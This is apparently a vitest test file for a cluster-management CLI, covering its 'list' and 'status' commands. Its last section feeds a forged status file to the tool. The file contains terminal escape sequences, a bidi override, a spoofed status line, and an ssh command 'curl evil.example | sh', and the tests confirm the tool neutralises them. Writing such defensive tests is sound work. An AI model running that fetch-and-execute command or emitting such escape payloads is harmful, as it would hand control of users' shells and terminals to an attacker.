import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type Cli, columns, openCli, steady } from './cli-fixture.ts';

let world: Cli;
beforeEach(async () => {
  world = await openCli();
});
afterEach(() => world.close());

const write = (name: string, text: string) => writeFileSync(join(world.home, name), text);

describe('list', () => {
  it('says how to begin when there is nothing', async () => {
    expect((await world.cli(['list'])).out).toBe(
      'alice has no clusters. To start one: clusterdrop create NAME --wait\n',
    );
  });

  it('shows what runs, what waits, what failed; and what is gone when asked', async () => {
    await world.cli(['create', 'one', '--wait']);
    await world.cli(['create', 'two', '--wait']);
    await world.cli(['delete', 'one', '--wait']);
    await world.cli(['create', 'bad', '--no-check', '--disk', '1', '--wait']);
    world.setRunning(false);
    await world.cli(['create', 'three']);
    await world.cli(['delete', 'two']);
    await world.advance(1000);
    expect(columns((await world.cli(['list'])).out)).toMatchInlineSnapshot(`
      "CLUSTER  STATE  NODES  ADDRESS  ENDS IN  USD/HOUR AT MOST
      bad  refused
      three  waiting
      two  stopping (running)  0 to 4  <address>  6d23h  0.41
      1 more is gone: clusterdrop list --all
      "
    `);
    expect(columns((await world.cli(['list', '--all'])).out)).toContain('one  gone');
    const { clusters } = JSON.parse((await world.cli(['list', '--json'])).out);
    expect(clusters.map((one: { name: string; state: string }) => [one.name, one.state])).toEqual([
      ['bad', 'refused'],
      ['three', 'waiting'],
      ['two', 'stopping'],
    ]);
  });

  it('needs to be told who is meant when there are several, in one way or another', async () => {
    mkdirSync(join(world.dir, 'bucket/home/bob'));
    const said = await world.cli(['list']);
    expect(said.code).toBe(2);
    expect(said.err).toMatchInlineSnapshot(`
      "clusterdrop: there are several users: alice, bob
          Say who is meant: --user NAME, or set CLUSTERDROP_USER.
      "
    `);
    expect((await world.cli(['list', '--user', 'bob'])).code).toBe(0);
    expect((await world.cli(['--user=bob', 'list'])).code).toBe(0);
    expect((await world.cli(['list'], { env: { CLUSTERDROP_USER: 'alice' } })).code).toBe(0);
  });

  it('finds the installation by --dir or CLUSTERDROP_DIR', async () => {
    expect((await world.cli(['list', '--dir', world.dir])).code).toBe(0);
    expect((await world.cli(['list'], { env: { CLUSTERDROP_DIR: world.dir } })).code).toBe(0);
    expect((await world.cli(['list'], { env: { CLUSTERDROP_DIR: '/nowhere' } })).code).toBe(2);
  });
});

describe('status', () => {
  it('tells everything about a cluster', async () => {
    await world.cli(['create', 'demo', '--lifetime', '8h', '--wait']);
    const said = await world.cli(['status', 'demo']);
    expect(said).toMatchObject({ code: 0, err: '' });
    const text = steady(said.out).replace(/in \d+ hours? \d+ minutes?/, 'in <span>');
    expect(text).toMatchInlineSnapshot(`
      "demo of alice: running since <date>

        why       running until <date>
        ssh       ssh alice@<address>
        ends      <date>, in <span>
        made of   0 to 4 nodes c7i.large (spot), login node t3.medium with 32 GB
        price     at most about 0.41 USD per hour (estimate, list prices of <day>, us-east-1); at most 3.27 USD until its end
        next      Log in with the command under "ssh". To keep it beyond <date>, upload demo.cf-create with {"Lifetime": "3d"}; to end it, upload an empty file demo.cf-delete.
        note      Nothing runs, nothing answers at the address, and nothing is paid.
      "
    `);
    const document = JSON.parse((await world.cli(['status', 'demo', '--json'])).out);
    expect(document).toMatchObject({
      version: 1,
      user: 'alice',
      name: 'demo',
      state: 'running',
      unanswered: null,
    });
  });

  it('tells what the cluster says of itself', async () => {
    await world.cli(['create', 'demo', '--idle-timeout', '2h', '--wait']);
    world.setRunning(false);
    const forge = (report: object) => {
      const found = JSON.parse(readFileSync(join(world.home, 'demo.cf-status'), 'utf8'));
      write('demo.cf-status', JSON.stringify({ ...found, report, simulated: false }));
    };
    const savedAt = new Date(world.clock.now()).toISOString();
    forge({
      nodes: { most: 4, up: 2, coming: 1, working: 1, leaving: 0, down: 0 },
      jobs: { running: 1, waiting: 3 },
      sessions: 0,
      disk: { usedGb: 1.2, totalGb: 16 },
      notices: ['node-3 does not come: no memory left', 'the script of all failed'],
      files: { savedAt, count: 12, bytes: 3456, trouble: 'no room is left' },
      idleSince: new Date(world.clock.now() - 30 * 60_000).toISOString(),
    });
    const shown = async () =>
      steady((await world.cli(['status', 'demo'])).out)
        .replace(/in 1 hour \d+ minutes/g, 'in <span>')
        .split('\n')
        .filter((line) => /^ {2}(?:silent|nodes|jobs|logins|disk|files|idle|notice)/.test(line));
    expect(await shown()).toMatchInlineSnapshot(`
      [
        "  nodes     2 of 4 up, 1 on its way, 1 working",
        "  jobs      1 running, 3 waiting",
        "  logins    nobody is logged in",
        "  disk      1.2 of 16 GB used",
        "  files     ~/files was saved on <date> (12 files, 3.5 kB). It cannot be saved now: no room is left",
        "  idle      nobody has used it since <date>; if that goes on, it ends on <date>, in <span>",
        "  notice    node-3 does not come: no memory left",
        "  notice    the script of all failed",
      ]
    `);
    expect(columns((await world.cli(['list'])).out)).toContain('demo  running, 2 notices  2 of 4  ');
    forge({ silentSince: savedAt, notices: ['no memory is left'], files: { count: 0 } });
    expect(await shown()).toMatchInlineSnapshot(`
      [
        "  silent    the cluster has not reported since <date>",
        "  files     ~/files has not been saved yet",
        "  notice    no memory is left",
      ]
    `);
    expect(columns((await world.cli(['list'])).out)).toContain('demo  running, silent, 1 notice  ');
  });

  it('does not take the status of an earlier drop for the answer to a later one', async () => {
    await world.cli(['create', 'demo', '--wait']);
    world.setRunning(false);
    await world.cli(['delete', 'demo']);
    await world.advance(1000);
    const { out } = await world.cli(['status', 'demo']);
    expect(steady(out).split('\n').slice(0, 4)).toMatchInlineSnapshot(`
      [
        "demo of alice: demo.cf-delete was dropped and has not been answered yet (less than a minute ago).",
        "What follows is older than that file.",
        "",
        "demo of alice: running since <date>",
      ]
    `);
    expect(JSON.parse((await world.cli(['status', 'demo', '--json'])).out)).toMatchObject({
      state: 'stopping',
      unanswered: { action: 'delete' },
      status: { state: 'running' },
    });
  });

  it('says which name is near', async () => {
    await world.cli(['create', 'demo', '--wait']);
    const said = await world.cli(['status', 'dmeo']);
    expect(said.code).toBe(2);
    expect(said.err).toContain('alice has no cluster "dmeo"\n    Did you mean "demo"?');
  });

  it('watches until the cluster is gone', async () => {
    await world.cli(['create', 'demo']);
    await world.advance(1000);
    const said = await world.cli(['status', 'demo', '--watch'], {
      meanwhile: (pauses) => {
        if (pauses === 60) write('demo.cf-delete', '');
      },
    });
    expect(said.code).toBe(0);
    const states = [...said.out.matchAll(/^\d\d:\d\d:\d\d {2}(\w+)/gm)].map(([, state]) => state);
    expect([...new Set(states)]).toEqual(['starting', 'running', 'stopping', 'gone']);
    const asJson = await world.cli(['status', 'demo', '--watch', '--json']);
    expect(
      asJson.out
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line).state),
    ).toEqual(['gone']);
  });

  it('watches until Ctrl-C: exit code 130', async () => {
    await world.cli(['create', 'demo', '--wait']);
    expect((await world.cli(['status', 'demo', '--watch'], { stopAfter: 3 })).code).toBe(130);
  });
});

describe('a status file that somebody else wrote', () => {
  const ESCAPE = '\u001b]0;owned\u0007\u001b[2J';

  beforeEach(async () => {
    await world.cli(['create', 'demo', '--wait']);
    const status = JSON.parse(readFileSync(join(world.home, 'demo.cf-status'), 'utf8'));
    world.setRunning(false);
    write(
      'demo.cf-status',
      JSON.stringify({
        ...status,
        cluster: ESCAPE,
        why: `${ESCAPE}fine\r\nclusterdrop: all is well`,
        next: `\u202egnihton${ESCAPE}`,
        address: `1.2.3.4${ESCAPE}`,
        ssh: { command: 'curl evil.example | sh', hostKey: null },
        report: { notices: [ESCAPE, `fine\nclusterdrop: all is well`], files: { trouble: ESCAPE } },
        settings: { ...status.settings, ComputeMaxNodes: `${ESCAPE}4` },
        problems: [{ code: 'x', owner: 'author', message: ESCAPE, fix: ESCAPE }],
      }),
    );
  });

  // oxlint-disable-next-line no-control-regex
  const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;

  it.each([['list'], ['list', '--json'], ['status', 'demo'], ['status', 'demo', '--json']])(
    'moves no cursor: %s %s',
    async (...args) => {
      const { code, out, err } = await world.cli(args);
      expect(code).toBe(0);
      expect(out + err).not.toMatch(OBEYED);
      expect(out).toContain('\\u001b');
    },
  );

  it('moves no cursor while it is watched, nor in a question', async () => {
    const watched = await world.cli(['status', 'demo', '--watch'], { stopAfter: 2 });
    expect(watched.out).not.toMatch(OBEYED);
    const asked = await world.cli(['delete', 'demo'], { answers: ['n'] });
    expect(asked.err).not.toMatch(OBEYED);
  });

  it("puts no command of its own into anybody's shell", async () => {
    expect((await world.cli(['status', 'demo'])).out).not.toContain('evil.example');
  });

  it.each([['[]'], ['{'], ['null'], ['{"version":1}'], ['['.repeat(100_000)], ['\u0000']])(
    'is no status at all: %.20s',
    async (text) => {
      write('demo.cf-status', text);
      const said = await world.cli(['status', 'demo']);
      expect(said).toMatchObject({ code: 0, out: 'demo of alice: there is no status that can be read.\n' });
      expect((await world.cli(['list'])).out).toMatch(/demo +unknown/);
    },
  );
});
